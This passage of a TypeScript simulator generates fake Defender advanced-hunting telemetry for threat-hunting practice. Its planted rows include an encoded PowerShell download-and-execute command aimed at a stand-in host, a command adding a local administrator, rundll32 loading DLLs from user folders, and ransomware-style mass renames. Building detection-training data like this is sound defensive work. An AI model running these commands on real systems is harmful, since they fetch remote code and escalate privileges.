// Advanced hunting tables for the simulator, derived deterministically from the tenant data the Defender simulation
// already generates (model.ts): the same devices (DeviceId = the 40-hex machine id), users, alerts (AlertId = the alert
// ids of the incidents APIs) and evidence, plus background noise with a few things worth hunting for (encoded
// PowerShell, a new local administrator, rundll32 loading a DLL from a user folder, a burst of file renames, sign-ins
// from a country the user never signed in from).
//
// Columns are a documented subset of Microsoft's schema reference, with the documented names and types
// (defender-docs defender-xdr/advanced-hunting-<table>-table.md): DeviceInfo, DeviceProcessEvents, DeviceNetworkEvents,
// DeviceFileEvents, AlertInfo, AlertEvidence, EmailEvents, IdentityLogonEvents. Background rows are spread over the
// 30 days before the simulator's anchor (its start time floored to the hour); alert rows carry the alerts' own times.
// Tenant text is carried verbatim (tenant display name, injected incident overrides): it may be hostile on purpose.
import { createHash } from "node:crypto";
import { alertView, Rng, type AlertView, type Device, type Entity, type TenantData, type TenantUser } from "../defender/model.ts";
import type { Column, KType, Row, Table } from "./kql.ts";

const DAY = 86_400_000;
/** Background rows stay clear of the 30-day edge so a default-Timespan query sees all of them for hours. */
const WINDOW_MS = 29.5 * DAY;

const cols = (spec: string): Column[] =>
  spec
    .trim()
    .split(/\s+/)
    .map((p) => {
      const [name, type] = p.split(":");
      return { name: name!, type: (type ?? "string") as KType };
    });

// Column lists (name:type; string when no type). `bool` / `boolean` and `int` / `long` as the pages spell them.
export const SCHEMAS: Record<string, Column[]> = {
  DeviceInfo: cols(`Timestamp:datetime DeviceId DeviceName ClientVersion PublicIP OSArchitecture OSPlatform OSBuild:long IsAzureADJoined:bool
    JoinType AadDeviceId LoggedOnUsers RegistryDeviceTag OSVersion MachineGroup ReportId:long OnboardingStatus AdditionalFields DeviceCategory
    DeviceType ExposureLevel AssetValue DeviceManualTags SensorHealthState IsInternetFacing:bool`),
  DeviceProcessEvents: cols(`Timestamp:datetime DeviceId DeviceName ActionType FileName FolderPath SHA1 SHA256 MD5 FileSize:long ProcessId:long
    ProcessCommandLine ProcessIntegrityLevel ProcessTokenElevation ProcessCreationTime:datetime AccountDomain AccountName AccountSid AccountUpn
    AccountObjectId LogonId:long InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessFileName InitiatingProcessFolderPath
    InitiatingProcessCommandLine InitiatingProcessId:long InitiatingProcessCreationTime:datetime InitiatingProcessParentFileName
    InitiatingProcessParentId:long ReportId:long AdditionalFields`),
  DeviceNetworkEvents: cols(`Timestamp:datetime DeviceId DeviceName ActionType RemoteIP RemotePort:int RemoteUrl LocalIP LocalPort:int Protocol
    LocalIPType RemoteIPType InitiatingProcessFileName InitiatingProcessFolderPath InitiatingProcessCommandLine InitiatingProcessId:long
    InitiatingProcessAccountDomain InitiatingProcessAccountName ReportId:long AdditionalFields`),
  DeviceFileEvents: cols(`Timestamp:datetime DeviceId DeviceName ActionType FileName FolderPath SHA1 SHA256 MD5 FileOriginUrl FileOriginIP
    PreviousFolderPath PreviousFileName FileSize:long InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessFileName
    InitiatingProcessFolderPath InitiatingProcessCommandLine InitiatingProcessId:long ReportId:long AdditionalFields`),
  AlertInfo: cols(`Timestamp:datetime AlertId Title Category Severity ServiceSource DetectionSource AttackTechniques`),
  AlertEvidence: cols(`Timestamp:datetime AlertId Title Categories AttackTechniques ServiceSource DetectionSource EntityType EvidenceRole
    EvidenceDirection FileName FolderPath SHA1 SHA256 FileSize:long ThreatFamily RemoteIP RemoteUrl AccountName AccountDomain AccountSid
    AccountObjectId AccountUpn DeviceId DeviceName LocalIP NetworkMessageId EmailSubject ProcessCommandLine RegistryKey RegistryValueName
    RegistryValueData AdditionalFields Severity`),
  EmailEvents: cols(`Timestamp:datetime NetworkMessageId InternetMessageId SenderMailFromAddress SenderFromAddress SenderDisplayName SenderObjectId
    SenderMailFromDomain SenderFromDomain SenderIPv4 RecipientEmailAddress RecipientObjectId Subject EmailClusterId:long EmailDirection
    DeliveryAction DeliveryLocation ThreatTypes ThreatNames DetectionMethods ConfidenceLevel BulkComplaintLevel:int AttachmentCount:int
    UrlCount:int EmailLanguage ReportId AdditionalFields`),
  // identitylogonevents-table.md: ReportId is a string and AdditionalFields is dynamic in this table.
  IdentityLogonEvents: cols(`Timestamp:datetime ActionType Application LogonType Protocol FailureReason AccountName AccountDomain AccountUpn
    AccountSid AccountObjectId AccountDisplayName DeviceName DeviceType OSPlatform IPAddress Port:int DestinationDeviceName DestinationIPAddress
    DestinationPort:int TargetDeviceName TargetAccountDisplayName Location Isp ReportId AdditionalFields:dynamic`),
};
export const TABLE_NAMES = Object.keys(SCHEMAS);

export interface HuntingSource {
  seed: string;
  anchorMs: number;
  tenantDisplayName: string;
  data: TenantData;
}

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

const hashCache = new Map<string, { sha1: string; sha256: string; md5: string }>();
/** Hashes of a file's content stand-in (its name): the same binary has the same hashes everywhere. */
function hashes(label: string): { sha1: string; sha256: string; md5: string } {
  let h = hashCache.get(label);
  if (!h) {
    h = {
      sha1: createHash("sha1").update(label).digest("hex"),
      sha256: createHash("sha256").update(label).digest("hex"),
      md5: createHash("md5").update(label).digest("hex"),
    };
    // Only the fixed catalogue is cached (bounded); one-off names are hashed each time.
    if (hashCache.size < 512) hashCache.set(label, h);
  }
  return h;
}

/** One empty row per table, made by JSON.parse so V8 keeps it in fast mode: 30+ properties added one by one through
 * computed keys turn an object into a dictionary (about 1.7 KB a row instead of ~0.3 KB). Rows are spread copies. */
const TEMPLATES = new Map<string, Row>();
function template(table: string): Row {
  let t = TEMPLATES.get(table);
  if (!t) {
    t = JSON.parse(JSON.stringify(Object.fromEntries(SCHEMAS[table]!.map((c) => [c.name, c.type === "string" ? "" : null])))) as Row;
    TEMPLATES.set(table, t);
  }
  return t;
}

/** Fills every schema column, so rows of one table share one shape. */
function shape(table: string, values: Record<string, unknown>): Row {
  const row: Row = { ...template(table) };
  for (const c of SCHEMAS[table]!) {
    const v = values[c.name];
    if (v !== undefined) row[c.name] = v as Row[string];
  }
  return row;
}

const ENTITY_TYPE: Record<string, string> = { MailBox: "Mailbox", Registry: "RegistryValue" };
const SERVICE_SOURCE: Record<string, string> = {
  MDE: "Microsoft Defender for Endpoint",
  MDO: "Microsoft Defender for Office 365",
  MCAS: "Microsoft Defender for Cloud Apps",
  MDI: "Microsoft Defender for Identity",
};
// UNCONFIRMED spellings of DetectionSource in advanced hunting (the schema page gives none).
const DETECTION_SOURCE: Record<string, string> = {
  WindowsDefenderAtp: "EDR",
  WindowsDefenderAv: "Antivirus",
  CustomerTI: "Custom TI",
  OfficeATP: "Microsoft Defender for Office 365",
  MCAS: "Microsoft Defender for Cloud Apps",
  AzureATP: "Microsoft Defender for Identity",
};

/** Alert views of the last few tenants built: six of the eight tables read them (bounded, a tenant's are ~200 KB). */
const alertCache = new Map<string, AlertView[]>();

function allAlerts(src: HuntingSource): AlertView[] {
  const d = src.data;
  const key = `${d.tenantId}|${d.clock}|${d.incidents.length}|${d.ticks}`;
  const hit = alertCache.get(key);
  if (hit) return hit;
  const out: AlertView[] = [];
  for (const inc of d.incidents) inc.alerts.forEach((a, n) => out.push(alertView(src.seed, d, inc, a, n)));
  alertCache.set(key, out);
  for (const k of alertCache.keys()) {
    if (alertCache.size <= 4) break;
    alertCache.delete(k);
  }
  return out;
}

const timeIn = (r: Rng, src: HuntingSource) => Math.floor(src.anchorMs - WINDOW_MS + r.next() * WINDOW_MS);

interface Proc {
  file: string;
  folder: string;
  cmd: (r: Rng, u: TenantUser) => string;
  parent: string;
}
const BENIGN_PROCS: readonly Proc[] = [
  { file: "svchost.exe", folder: "C:\\Windows\\System32", cmd: () => "svchost.exe -k netsvcs -p -s Schedule", parent: "services.exe" },
  { file: "conhost.exe", folder: "C:\\Windows\\System32", cmd: () => "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", parent: "cmd.exe" },
  { file: "cmd.exe", folder: "C:\\Windows\\System32", cmd: () => 'cmd.exe /c "ipconfig /all"', parent: "explorer.exe" },
  {
    file: "powershell.exe",
    folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    cmd: () => "powershell.exe -NoProfile -Command Get-Service | Where-Object Status -eq Running",
    parent: "explorer.exe",
  },
  {
    file: "chrome.exe",
    folder: "C:\\Program Files\\Google\\Chrome\\Application",
    cmd: (r) => `"chrome.exe" --type=renderer --renderer-client-id=${r.int(5, 90)}`,
    parent: "explorer.exe",
  },
  {
    file: "msedge.exe",
    folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
    cmd: () => '"msedge.exe" --single-argument https://portal.office.com/',
    parent: "explorer.exe",
  },
  {
    file: "OUTLOOK.EXE",
    folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
    cmd: () => '"OUTLOOK.EXE" /recycle',
    parent: "explorer.exe",
  },
  {
    file: "WINWORD.EXE",
    folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
    cmd: (_r, u) => `"WINWORD.EXE" /n "C:\\Users\\${u.accountName}\\Documents\\Quarterly report.docx"`,
    parent: "explorer.exe",
  },
  { file: "taskhostw.exe", folder: "C:\\Windows\\System32", cmd: () => "taskhostw.exe KEYROAMING", parent: "svchost.exe" },
  { file: "net.exe", folder: "C:\\Windows\\System32", cmd: () => "net.exe use Z: \\\\fs01\\shared /persistent:yes", parent: "cmd.exe" },
  {
    file: "rundll32.exe",
    folder: "C:\\Windows\\System32",
    cmd: () => "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
    parent: "explorer.exe",
  },
  { file: "ms-teams.exe", folder: "C:\\Program Files\\WindowsApps\\MSTeams_x64\\", cmd: () => '"ms-teams.exe" --system-initiated', parent: "explorer.exe" },
];

// ---------------------------------------------------------------------------------------------
// Generators
// ---------------------------------------------------------------------------------------------

function deviceInfo(src: HuntingSource): Row[] {
  const r = new Rng(`${src.seed}|${src.data.tenantId}|hunt|DeviceInfo`);
  const rows: Row[] = [];
  let report = 1000;
  for (const d of src.data.devices) {
    const server = d.osPlatform.startsWith("WindowsServer");
    const publicIp = `${r.pick([20, 40, 52, 104])}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}`;
    const users = src.data.users.slice(0, 1 + r.int(0, 1)).map((u) => ({ UserName: u.accountName, DomainName: u.domainName, Sid: u.userSid }));
    // One full report a day per device (deviceinfo-table.md: complete reports hourly and on change).
    for (let day = 0; day < 30; day++) {
      const ts = src.anchorMs - WINDOW_MS + day * DAY + r.int(0, DAY - 1) / 2;
      rows.push(
        shape("DeviceInfo", {
          Timestamp: Math.floor(ts),
          DeviceId: d.mdatpDeviceId,
          DeviceName: d.deviceDnsName,
          ClientVersion: "10.8760.22621.1000",
          PublicIP: publicIp,
          OSArchitecture: "64-bit",
          OSPlatform: d.osPlatform,
          OSBuild: d.osBuild,
          IsAzureADJoined: d.aadDeviceId !== null,
          JoinType: d.aadDeviceId !== null ? "Hybrid Azure AD Join" : "Domain Joined",
          AadDeviceId: d.aadDeviceId ?? "",
          LoggedOnUsers: JSON.stringify(users),
          RegistryDeviceTag: d.deviceTags[0] ?? "",
          OSVersion: server ? "10.0" : d.version,
          MachineGroup: d.rbacGroupName,
          ReportId: report++,
          OnboardingStatus: "Onboarded",
          AdditionalFields: "",
          DeviceCategory: "Endpoint",
          DeviceType: server ? "Server" : "Workstation",
          ExposureLevel: d.riskScore === "High" ? "High" : d.riskScore === "Medium" ? "Medium" : "Low",
          AssetValue: d.cloudTags.includes("VIP") ? "High" : "Normal",
          DeviceManualTags: JSON.stringify(d.cloudTags),
          SensorHealthState: "Active",
          IsInternetFacing: server && r.chance(0.2),
        }),
      );
    }
  }
  return rows;
}

function procRow(
  d: Device,
  u: TenantUser,
  ts: number,
  report: number,
  p: { file: string; folder: string; cmd: string; parent: string; parentFolder?: string; pid: number; integrity?: string },
): Row {
  const h = hashes(`${p.folder}\\${p.file}`);
  return shape("DeviceProcessEvents", {
    Timestamp: ts,
    DeviceId: d.mdatpDeviceId,
    DeviceName: d.deviceDnsName,
    ActionType: "ProcessCreated",
    FileName: p.file,
    FolderPath: `${p.folder}\\${p.file}`,
    SHA1: h.sha1,
    SHA256: h.sha256,
    MD5: h.md5,
    FileSize: 20_000 + (parseInt(h.md5.slice(0, 6), 16) % 4_000_000),
    ProcessId: p.pid,
    ProcessCommandLine: p.cmd,
    ProcessIntegrityLevel: p.integrity ?? "Medium",
    ProcessTokenElevation: p.integrity === "High" ? "TokenElevationTypeFull" : "TokenElevationTypeDefault",
    ProcessCreationTime: ts,
    AccountDomain: u.domainName,
    AccountName: u.accountName,
    AccountSid: u.userSid,
    AccountUpn: u.upn,
    AccountObjectId: u.aadUserId,
    LogonId: 100_000 + (p.pid % 90_000),
    InitiatingProcessAccountDomain: u.domainName,
    InitiatingProcessAccountName: u.accountName,
    InitiatingProcessFileName: p.parent,
    InitiatingProcessFolderPath: `${p.parentFolder ?? "C:\\Windows\\System32"}\\${p.parent}`,
    InitiatingProcessCommandLine: p.parent,
    InitiatingProcessId: (p.pid % 9000) + 400,
    InitiatingProcessCreationTime: ts - 60_000,
    InitiatingProcessParentFileName: p.parent === "explorer.exe" ? "userinit.exe" : "explorer.exe",
    InitiatingProcessParentId: (p.pid % 700) + 100,
    ReportId: report,
  });
}

function deviceProcessEvents(src: HuntingSource): Row[] {
  const r = new Rng(`${src.seed}|${src.data.tenantId}|hunt|DeviceProcessEvents`);
  const { devices, users } = src.data;
  const rows: Row[] = [];
  let report = 5000;
  const benign = 1100 + r.int(0, 300);
  for (let i = 0; i < benign; i++) {
    const p = r.pick(BENIGN_PROCS);
    const u = r.pick(users);
    rows.push(
      procRow(r.pick(devices), u, timeIn(r, src), report++, { file: p.file, folder: p.folder, cmd: p.cmd(r, u), parent: p.parent, pid: r.int(1000, 30000) }),
    );
  }
  const ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";
  // Encoded PowerShell (-EncodedCommand, UTF-16LE base64 as PowerShell expects).
  for (let i = 0, n = r.int(1, 6); i < n; i++) {
    const u = r.pick(users);
    const payload = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://cdn-update-check.net/${r.hex(6)}.ps1')`, "utf16le").toString("base64");
    rows.push(
      procRow(r.pick(devices), u, timeIn(r, src), report++, {
        file: "powershell.exe",
        folder: ps,
        cmd: `powershell.exe -NoP -W Hidden -EncodedCommand ${payload}`,
        parent: r.pick(["WINWORD.EXE", "cmd.exe", "wscript.exe"]),
        parentFolder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        pid: r.int(1000, 30000),
      }),
    );
  }
  // A new local administrator.
  for (let i = 0, n = r.int(1, 3); i < n; i++) {
    const u = r.pick(users);
    const who = r.pick(["svc-backup", "helpdesk2", u.accountName, "support$"]);
    rows.push(
      procRow(r.pick(devices), u, timeIn(r, src), report++, {
        file: r.chance(0.5) ? "net.exe" : "net1.exe",
        folder: "C:\\Windows\\System32",
        cmd: `net localgroup administrators ${who} /add`,
        parent: "cmd.exe",
        pid: r.int(1000, 30000),
        integrity: "High",
      }),
    );
  }
  // rundll32 loading a DLL from a user folder.
  for (let i = 0, n = r.int(1, 4); i < n; i++) {
    const u = r.pick(users);
    const where = r.pick([`C:\\Users\\${u.accountName}\\AppData\\Local\\Temp`, `C:\\Users\\${u.accountName}\\Downloads`, `C:\\Users\\Public`]);
    rows.push(
      procRow(r.pick(devices), u, timeIn(r, src), report++, {
        file: "rundll32.exe",
        folder: "C:\\Windows\\System32",
        cmd: `rundll32.exe ${where}\\${r.hex(8)}.dll,${r.pick(["DllRegisterServer", "Start", "#1"])}`,
        parent: r.pick(["explorer.exe", "OUTLOOK.EXE", "cmd.exe"]),
        pid: r.int(1000, 30000),
      }),
    );
  }
  // The processes the endpoint alerts name, with their command lines (injected text included, verbatim).
  for (const a of allAlerts(src)) {
    const d = a.devices[0];
    if (!d) continue;
    for (const e of a.entities) {
      if (e.entityType !== "Process") continue;
      rows.push(
        procRow(d, a.user, e.processCreationMs ?? a.createdMs, report++, {
          file: e.fileName ?? "",
          folder: e.filePath ?? "",
          cmd: e.processCommandLine ?? "",
          parent: e.parentProcessFileName ?? "explorer.exe",
          parentFolder: e.parentProcessFilePath ?? "C:\\Windows",
          pid: e.processId ?? 4242,
        }),
      );
    }
  }
  return rows;
}

const BENIGN_URLS = [
  "login.microsoftonline.com",
  "outlook.office365.com",
  "teams.microsoft.com",
  "www.google.com",
  "update.googleapis.com",
  "settings-win.data.microsoft.com",
  "github.com",
  "cdn.jsdelivr.net",
];

function deviceNetworkEvents(src: HuntingSource): Row[] {
  const r = new Rng(`${src.seed}|${src.data.tenantId}|hunt|DeviceNetworkEvents`);
  const { devices, users } = src.data;
  const rows: Row[] = [];
  let report = 9000;
  const row = (d: Device, u: TenantUser, ts: number, v: { action: string; ip: string; port: number; url: string; proc: string; folder: string; cmd: string }) =>
    shape("DeviceNetworkEvents", {
      Timestamp: ts,
      DeviceId: d.mdatpDeviceId,
      DeviceName: d.deviceDnsName,
      ActionType: v.action,
      RemoteIP: v.ip,
      RemotePort: v.port,
      RemoteUrl: v.url,
      LocalIP: d.ipAddress,
      LocalPort: r.int(49152, 65535),
      Protocol: "Tcp",
      LocalIPType: "Private",
      RemoteIPType: v.ip.startsWith("10.") ? "Private" : "Public",
      InitiatingProcessFileName: v.proc,
      InitiatingProcessFolderPath: `${v.folder}\\${v.proc}`,
      InitiatingProcessCommandLine: v.cmd,
      InitiatingProcessId: r.int(1000, 30000),
      InitiatingProcessAccountDomain: u.domainName,
      InitiatingProcessAccountName: u.accountName,
      ReportId: report++,
    });
  const n = 700 + r.int(0, 200);
  for (let i = 0; i < n; i++) {
    const url = r.pick(BENIGN_URLS);
    const browser = r.pick(BENIGN_PROCS.slice(4, 7));
    rows.push(
      row(r.pick(devices), r.pick(users), timeIn(r, src), {
        action: r.chance(0.95) ? "ConnectionSuccess" : "ConnectionFailed",
        ip: `${r.pick([13, 20, 40, 52, 140, 142])}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}`,
        port: 443,
        url,
        proc: browser.file,
        folder: browser.folder,
        cmd: browser.cmd(r, r.pick(users)),
      }),
    );
  }
  // Connections the endpoint alerts name (their URLs and IPs).
  for (const a of allAlerts(src)) {
    const d = a.devices[0];
    if (!d) continue;
    for (const e of a.entities) {
      if (e.entityType !== "Url" && e.entityType !== "Ip") continue;
      const url = e.url ? (/^[a-z]+:\/\/([^/]+)/i.exec(e.url)?.[1] ?? e.url) : "";
      rows.push(
        row(d, a.user, e.evidenceCreationMs - r.int(1000, 60_000), {
          action: "ConnectionSuccess",
          ip: e.ipAddress ?? `185.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}`,
          port: r.pick([80, 443, 8080]),
          url,
          proc: "powershell.exe",
          folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
          cmd: "powershell.exe",
        }),
      );
    }
  }
  return rows;
}

const DOC_NAMES = ["Quarterly report", "Budget 2026", "Minutes", "Invoice", "Contract draft", "Roadmap", "Payroll", "Photos", "Notes", "Plan"];
const DOC_EXT = [".docx", ".xlsx", ".pptx", ".pdf", ".txt", ".jpg"];

function deviceFileEvents(src: HuntingSource): Row[] {
  const r = new Rng(`${src.seed}|${src.data.tenantId}|hunt|DeviceFileEvents`);
  const { devices, users } = src.data;
  const rows: Row[] = [];
  let report = 13000;
  const row = (d: Device, u: TenantUser, ts: number, v: Record<string, unknown>) => {
    const h = hashes(`${String(v.FolderPath)}|${String(v.FileName)}`);
    return shape("DeviceFileEvents", {
      Timestamp: ts,
      DeviceId: d.mdatpDeviceId,
      DeviceName: d.deviceDnsName,
      SHA1: h.sha1,
      SHA256: h.sha256,
      MD5: h.md5,
      FileSize: 1_000 + (parseInt(h.md5.slice(0, 6), 16) % 9_000_000),
      InitiatingProcessAccountDomain: u.domainName,
      InitiatingProcessAccountName: u.accountName,
      ReportId: report++,
      ...v,
    });
  };
  const n = 550 + r.int(0, 150);
  for (let i = 0; i < n; i++) {
    const u = r.pick(users);
    const app = r.pick(BENIGN_PROCS.slice(4, 8));
    const file = `${r.pick(DOC_NAMES)}${r.chance(0.3) ? ` (${r.int(1, 9)})` : ""}${r.pick(DOC_EXT)}`;
    const folder = `C:\\Users\\${u.accountName}\\${r.pick(["Documents", "Downloads", "Desktop"])}`;
    rows.push(
      row(r.pick(devices), u, timeIn(r, src), {
        ActionType: r.pick(["FileCreated", "FileModified", "FileModified", "FileDeleted"]),
        FileName: file,
        FolderPath: `${folder}\\${file}`,
        InitiatingProcessFileName: app.file,
        InitiatingProcessFolderPath: `${app.folder}\\${app.file}`,
        InitiatingProcessCommandLine: app.cmd(r, u),
        InitiatingProcessId: r.int(1000, 30000),
      }),
    );
  }
  // A burst of renames to a new extension on one device (mass file renames), in most tenants.
  if (r.chance(0.7)) {
    const d = r.pick(devices);
    const u = r.pick(users);
    const start = timeIn(r, src);
    const exe = `${r.hex(8)}.exe`;
    const ext = r.pick([".lockbit", ".encrypted", ".crypt"]);
    for (let i = 0, burst = r.int(120, 200); i < burst; i++) {
      const original = `${r.pick(DOC_NAMES)} ${i}${r.pick(DOC_EXT)}`;
      const folder = `C:\\Users\\${u.accountName}\\${r.pick(["Documents", "Desktop"])}`;
      rows.push(
        row(d, u, start + i * r.int(200, 1500), {
          ActionType: "FileRenamed",
          FileName: `${original}${ext}`,
          FolderPath: `${folder}\\${original}${ext}`,
          PreviousFileName: original,
          PreviousFolderPath: folder,
          InitiatingProcessFileName: exe,
          InitiatingProcessFolderPath: `C:\\ProgramData\\${exe}`,
          InitiatingProcessCommandLine: `${exe} -path C:\\Users -enc`,
          InitiatingProcessId: 6666,
        }),
      );
    }
  }
  // Files the endpoint alerts name.
  for (const a of allAlerts(src)) {
    const d = a.devices[0];
    if (!d) continue;
    for (const e of a.entities) {
      if (e.entityType !== "File") continue;
      rows.push(
        row(d, a.user, e.evidenceCreationMs - 2_000, {
          ActionType: "FileCreated",
          FileName: e.fileName ?? "",
          FolderPath: `${e.filePath ?? ""}\\${e.fileName ?? ""}`,
          FileOriginUrl: a.entities.find((x) => x.entityType === "Url")?.url ?? "",
          InitiatingProcessFileName: "explorer.exe",
          InitiatingProcessFolderPath: "C:\\Windows\\explorer.exe",
          InitiatingProcessCommandLine: "explorer.exe",
          InitiatingProcessId: 3104,
        }),
      );
    }
  }
  return rows;
}

const techniques = (a: AlertView) => JSON.stringify(a.template.mitre);

function alertInfo(src: HuntingSource): Row[] {
  return allAlerts(src).map((a) =>
    shape("AlertInfo", {
      Timestamp: a.createdMs,
      AlertId: a.alertId,
      Title: a.title,
      Category: a.template.category,
      Severity: a.severity,
      ServiceSource: SERVICE_SOURCE[a.template.service],
      DetectionSource: DETECTION_SOURCE[a.template.detectionSource] ?? a.template.detectionSource,
      AttackTechniques: techniques(a),
    }),
  );
}

function evidenceValues(e: Entity): Record<string, unknown> {
  return {
    FileName: e.fileName ?? undefined,
    FolderPath: e.filePath ? `${e.filePath}${e.fileName ? `\\${e.fileName}` : ""}` : undefined,
    SHA1: e.sha1 ?? undefined,
    SHA256: e.sha256 ?? undefined,
    FileSize: e.fileSize ?? undefined,
    RemoteIP: e.ipAddress ?? undefined,
    RemoteUrl: e.url ?? undefined,
    AccountName: e.accountName ?? undefined,
    AccountDomain: e.domainName ?? undefined,
    AccountSid: e.userSid ?? undefined,
    AccountObjectId: e.aadUserId ?? undefined,
    AccountUpn: e.userPrincipalName ?? undefined,
    NetworkMessageId: e.networkMessageId ?? undefined,
    EmailSubject: e.subject ?? undefined,
    ProcessCommandLine: e.processCommandLine ?? undefined,
    RegistryKey: e.registryKey ? `${e.registryHive ?? ""}\\${e.registryKey}` : undefined,
    RegistryValueName: e.registryValueName ?? undefined,
    RegistryValueData: e.registryValue ?? undefined,
  };
}

function alertEvidence(src: HuntingSource): Row[] {
  const rows: Row[] = [];
  for (const a of allAlerts(src)) {
    const common = {
      AlertId: a.alertId,
      Title: a.title,
      Categories: JSON.stringify([a.template.category]),
      AttackTechniques: techniques(a),
      ServiceSource: SERVICE_SOURCE[a.template.service],
      DetectionSource: DETECTION_SOURCE[a.template.detectionSource] ?? a.template.detectionSource,
      Severity: a.severity,
    };
    for (const d of a.devices) {
      rows.push(
        shape("AlertEvidence", {
          ...common,
          Timestamp: a.createdMs,
          EntityType: "Machine",
          EvidenceRole: "Impacted",
          DeviceId: d.mdatpDeviceId,
          DeviceName: d.deviceDnsName,
          LocalIP: d.ipAddress,
        }),
      );
    }
    for (const e of a.entities) {
      const device = a.devices.find((d) => d.mdatpDeviceId === e.deviceId);
      rows.push(
        shape("AlertEvidence", {
          ...common,
          ...evidenceValues(e),
          Timestamp: e.evidenceCreationMs,
          EntityType: ENTITY_TYPE[e.entityType] ?? e.entityType,
          EvidenceRole: e.entityType === "User" || e.entityType === "MailBox" ? "Impacted" : "Related",
          DeviceId: device?.mdatpDeviceId,
          DeviceName: device?.deviceDnsName,
          ThreatFamily: e.entityType === "File" || e.entityType === "Process" ? (a.threatFamilyName ?? undefined) : undefined,
        }),
      );
    }
  }
  return rows;
}

const PARTNER_DOMAINS = ["fabrikam-supplies.com", "northwind-logistics.com", "litware-consulting.com", "newsletter.contoso-events.com"];
const SUBJECTS = ["Meeting notes", "Re: delivery schedule", "Invoice #", "Weekly newsletter", "Your order has shipped", "Project update", "Lunch on Friday?"];

function emailEvents(src: HuntingSource): Row[] {
  const r = new Rng(`${src.seed}|${src.data.tenantId}|hunt|EmailEvents`);
  const { users, domain } = src.data;
  const rows: Row[] = [];
  const row = (ts: number, v: Record<string, unknown>) =>
    shape("EmailEvents", {
      Timestamp: ts,
      NetworkMessageId: r.guid(),
      InternetMessageId: `<${r.hex(20)}@${String(v.SenderFromDomain ?? domain)}>`,
      EmailClusterId: r.int(1_000_000, 9_999_999),
      EmailLanguage: "en",
      ReportId: `${r.guid()}-${r.int(1, 99)}`,
      BulkComplaintLevel: 0,
      AttachmentCount: 0,
      UrlCount: 0,
      ...v,
    });
  const n = 350 + r.int(0, 150);
  for (let i = 0; i < n; i++) {
    const to = r.pick(users);
    const internal = r.chance(0.15);
    const fromDomain = internal ? domain : r.pick(PARTNER_DOMAINS);
    const from = internal ? `it@${domain}` : `${r.pick(["info", "billing", "noreply", "jordan"])}@${fromDomain}`;
    rows.push(
      row(timeIn(r, src), {
        SenderMailFromAddress: from,
        SenderFromAddress: from,
        // The tenant's display name is carried into its internal mail, verbatim.
        SenderDisplayName: internal ? `${src.tenantDisplayName} IT Service Desk` : fromDomain,
        SenderMailFromDomain: fromDomain,
        SenderFromDomain: fromDomain,
        SenderIPv4: `${r.pick([40, 52, 104, 198])}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}`,
        RecipientEmailAddress: to.upn,
        RecipientObjectId: to.aadUserId,
        Subject: internal
          ? `${src.tenantDisplayName}: your password expires in ${r.int(2, 14)} days`
          : `${r.pick(SUBJECTS)}${r.chance(0.3) ? ` ${r.int(1000, 9999)}` : ""}`,
        EmailDirection: internal ? "Intra-org" : "Inbound",
        DeliveryAction: r.chance(0.9) ? "Delivered" : "Junked",
        DeliveryLocation: "Inbox/folder",
        ConfidenceLevel: JSON.stringify({ Spam: "Low" }),
        BulkComplaintLevel: r.int(0, 4),
        AttachmentCount: r.chance(0.3) ? r.int(1, 3) : 0,
        UrlCount: r.int(0, 6),
      }),
    );
  }
  // The messages the e-mail alerts name (same NetworkMessageId, sender and subject as the evidence).
  for (const a of allAlerts(src)) {
    for (const e of a.entities) {
      if (e.entityType !== "MailMessage") continue;
      const sender = e.sender ?? "";
      const senderDomain = sender.includes("@") ? sender.slice(sender.lastIndexOf("@") + 1) : "";
      rows.push(
        row(e.evidenceCreationMs - 60_000, {
          NetworkMessageId: e.networkMessageId ?? "",
          InternetMessageId: e.internetMessageId ?? "",
          SenderMailFromAddress: sender,
          SenderFromAddress: sender,
          SenderDisplayName: "Billing",
          SenderMailFromDomain: senderDomain,
          SenderFromDomain: senderDomain,
          SenderIPv4: e.ipAddress ?? "",
          RecipientEmailAddress: e.recipient ?? a.user.upn,
          RecipientObjectId: a.user.aadUserId,
          Subject: e.subject ?? "",
          EmailDirection: "Inbound",
          DeliveryAction: e.deliveryAction ?? "Delivered",
          DeliveryLocation: e.deliveryAction === "Blocked" ? "Quarantine" : e.deliveryAction === "Junked" ? "Junk folder" : "Inbox/folder",
          ThreatTypes: "Phish",
          DetectionMethods: JSON.stringify({ Phish: ["URL detonation reputation"] }),
          ConfidenceLevel: JSON.stringify({ Phish: "High" }),
          UrlCount: 1,
        }),
      );
    }
  }
  return rows;
}

const HOME_COUNTRIES = ["US", "NL", "DE", "GB", "FR"];
const FAR_COUNTRIES = ["RU", "NG", "BR", "SG", "KP", "IR", "VN"];

function identityLogonEvents(src: HuntingSource): Row[] {
  const r = new Rng(`${src.seed}|${src.data.tenantId}|hunt|IdentityLogonEvents`);
  const { users, devices } = src.data;
  const home = r.pick(HOME_COUNTRIES);
  const rows: Row[] = [];
  const row = (u: TenantUser, ts: number, country: string, v: Record<string, unknown>) =>
    shape("IdentityLogonEvents", {
      Timestamp: ts,
      AccountName: u.accountName,
      AccountDomain: u.domainName.toLowerCase(),
      AccountUpn: u.upn,
      AccountSid: u.userSid,
      AccountObjectId: u.aadUserId,
      AccountDisplayName: u.displayName,
      Location: country,
      ReportId: r.guid(),
      AdditionalFields: { Country: country, "ARG.CLOUD_SERVICE": v.Application === "Active Directory" ? "" : "Office 365" },
      ...v,
    });
  const n = 420 + r.int(0, 160);
  for (let i = 0; i < n; i++) {
    const u = r.pick(users);
    const cloud = r.chance(0.6);
    const failed = r.chance(0.06);
